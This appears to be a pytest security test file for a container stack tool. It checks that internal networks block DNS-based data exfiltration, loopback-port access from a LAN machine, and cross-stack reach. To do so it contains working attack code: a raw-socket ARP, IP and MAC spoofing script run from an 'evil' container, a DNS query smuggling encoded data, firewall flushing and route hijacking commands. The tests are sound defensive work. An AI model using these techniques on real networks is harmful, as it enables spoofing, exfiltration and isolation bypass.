"""Attacks on networks, from containers of one stack on another and from a machine in the host's LAN, with the real command.

Numbers are those of docs/security.md.
"""

from __future__ import annotations

import json
import os

import pytest

from stackup.kernel import netns
from tests.host.lab import OUTSIDE, OUTSIDE_HOST, World, ask_tcp
from tests.scenarios.networks.conftest import Net
from tests.scenarios.networks.test_names import UPSTREAM, Upstream

pytestmark = [pytest.mark.host, pytest.mark.slow]

_QUERY = """
import socket, struct, sys
head, form = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0), b""
for label in sys.argv[2].split("."):
    form += bytes((len(label),)) + label.encode()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    one.settimeout(5)
    one.sendto(head + form + b"\\0" + struct.pack(">HH", int(sys.argv[3]), 1), (sys.argv[1], 53))
    print(one.recv(512)[3] & 15)
"""


def test_t39_names_carry_nothing_out_of_an_internal_network(net: Net) -> None:
    """What is asked of our own resolver is a way out as well: a name may carry anything."""
    net.folder.joinpath("resolv.conf").write_text(f"nameserver {UPSTREAM}\n")
    os.system(f"mount --bind {net.folder}/resolv.conf /etc/resolv.conf")
    server = Upstream()
    net.write(f"""
services:
  inner: {net.service("networks: [inside]")}
  told: {net.service(f'networks: [inside], dns: ["{UPSTREAM}", "{OUTSIDE}"]')}
  outer: {net.service()}
networks: {{default: {{}}, inside: {{internal: true}}}}
""")
    net("up -d")

    def asked(service: str, name: str, kind: int = 1) -> str:
        return net.run(service, "python3", "-c", _QUERY, "127.0.0.11", name, str(kind))

    for kind in (1, 28, 16, 12, 255):
        assert asked("inner", "c2VjcmV0.shop.test", kind) == "3", "NXDOMAIN"
    assert asked("told", "c2VjcmV0.shop.test") == "2", "SERVFAIL: the server that it names is out of its reach"
    assert server.heard == []
    assert asked("outer", "a.shop.test") == "0"
    assert server.heard == ["a.shop.test"], "the same way leads out of a network that is not internal"
    net("down -v")


def test_t40_a_flushed_firewall_is_drift_and_an_internal_network_needs_none(net: Net) -> None:
    net.write(f"""
services:
  web: {net.service('hostname: web, networks: [front, back], ports: ["127.0.0.1:8080:80"]')}
  db: {net.service("hostname: db, networks: [back]")}
networks: {{front: {{}}, back: {{internal: true}}}}
""")
    outside = World(net.folder).outside()
    net("up -d")
    address = net.look("web", "db")
    os.system("nft flush ruleset")
    with pytest.raises(OSError, match="unreachable"):
        net.call(address, 80)
    _route_to_the_host(outside, f"{address}/32")
    with pytest.raises(OSError, match="unreachable|timed out"):
        ask_tcp(outside, address, 80, patience_s=0.3)
    assert net.run("db", "ip", "route", "show", "default") == ""
    plan = net("plan")
    assert "network front  rules  lost" in plan
    assert "network back" not in plan
    net("up -d")
    assert net.call("127.0.0.1", 8080).startswith("web ")
    assert "everything is as the file says" in net.told("up -d")
    net("down -v")


def test_t41_a_port_of_the_loopback_is_not_the_lans(net: Net) -> None:
    """A neighbour that sends 127.0.0.1, or the container's own address, to the host as its router."""
    net.write(f"""
services:
  web: {net.service('hostname: web, ports: ["127.0.0.1:8080:80"]')}
  open: {net.service('hostname: open, ports: ["8081:80"]')}
""")
    outside = World(net.folder).outside()
    net("up -d")
    web = net.look("open", "web")
    assert net.call("127.0.0.1", 8080).startswith("web ")
    assert ask_tcp(outside, OUTSIDE_HOST, 8081).startswith("open "), "what is published for all is"
    with pytest.raises(OSError, match="refused"):
        ask_tcp(outside, OUTSIDE_HOST, 8080)
    with netns.Inside(outside):
        netns.write_sysctl("net/ipv4/conf/all/route_localnet", "1")
        os.system("ip rule add pref 1 to 127.0.0.0/8 lookup 9; ip rule add pref 2 lookup local; ip rule del pref 0")
        os.system(f"ip route add 127.0.0.0/8 via {OUTSIDE_HOST} table 9")
    _route_to_the_host(outside, f"{web}/32")
    for address, port in (("127.0.0.1", 8080), (web, 80)):
        with pytest.raises(OSError, match="timed out"):
            ask_tcp(outside, address, port, patience_s=0.3)
    net("down -v")


def _route_to_the_host(outside: int, target: str) -> None:
    with netns.Inside(outside):
        assert os.system(f"ip route add {target} via {OUTSIDE_HOST}") == 0


_STRANGE = "02:75:0a:0a:0a:0a"
_SPOOF = f"""
import socket, subprocess, sys
web, victim, own = sys.argv[1:]
def ip(line):
    subprocess.run(["ip", *line.split()], check=True)
def say(source, text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind((source, 0))
        one.sendto(text, (web, 9))
def meet():
    socket.create_connection((web, 80), 5).close()
meet()
say(own, b"own")
ip(f"address add {{victim}}/32 dev eth0")
say(victim, b"as another address")
mac = open("/sys/class/net/eth0/address").read().strip()
me = bytes.fromhex(mac.replace(":", ""))
claim = bytes.fromhex("08060001080006040001") + me + socket.inet_aton(victim) + bytes(6) + socket.inet_aton(web)
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as raw:
    raw.bind(("eth0", 0x0806))
    raw.send(bytes.fromhex("ff" * 6) + me + claim)
ip("link set eth0 address {_STRANGE}")
say(own, b"as another station")
ip(f"link set eth0 address {{mac}}")
meet()
say(own, b"last")
meet()
"""
_HEAR = """
import socket, threading
def hear():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one, open("/heard", "a", buffering=1) as file:
        one.bind(("", 9))
        while True:
            print(one.recv(100).decode(), file=file)
threading.Thread(target=hear, daemon=True).start()
with socket.create_server(("", 80)) as one:
    while True:
        one.accept()[0].close()
"""


def test_t42_nobody_speaks_for_another_stack_nor_reaches_it(net: Net) -> None:
    """Two stacks meet on one network; the attacker may change its addresses and its MAC, and send any frame."""
    net.write(f"""
services:
  web:
    image: host
    stop_signal: SIGKILL
    networks: [meet, own]
    volumes: ["{net.folder}/hear.py:/hear.py:ro"]
    command: [python3, /hear.py]
  evil: {net.service("hostname: evil, networks: [meet], cap_add: [NET_ADMIN]")}
  victim: {net.service("networks: [meet]")}
networks: {{meet: {{external: true, name: meet}}, own: {{}}}}
""")
    (net.folder / "hear.py").write_text(_HEAR)
    net("network create meet")
    net("-p one up -d web victim")
    net("-p two up -d evil")
    meet, own = _addresses(net, "meet"), _addresses(net, "one_own")
    net.inside(
        *("-p", "two", "exec", "-T", "evil", "python3", "-c", _SPOOF),
        *(meet["one-web-1"], meet["one-victim-1"], meet["two-evil-1"]),
    )
    assert net.inside("-p", "one", "exec", "-T", "web", "cat", "/heard").splitlines() == ["own", "last"]
    known = net.inside("-p", "one", "exec", "-T", "web", "cat", "/proc/net/arp")
    assert meet["one-victim-1"] not in known
    assert _STRANGE not in known
    reach = f"import socket; socket.create_connection(('{own['one-web-1']}', 80), 1)"
    done = net.machine.typed("-p", "two", "exec", "-T", "evil", "python3", "-c", reach, cwd=net.folder, code=1)
    assert "timed out" in done.stderr
    net("-p two down -v")
    net("-p one down -v")
    net("network rm meet")


def _addresses(net: Net, network: str) -> dict[str, str]:
    members = json.loads(net(f"network inspect {network}"))[0]["Containers"].values()
    return {member["Name"]: member["IPv4Address"].partition("/")[0] for member in members}
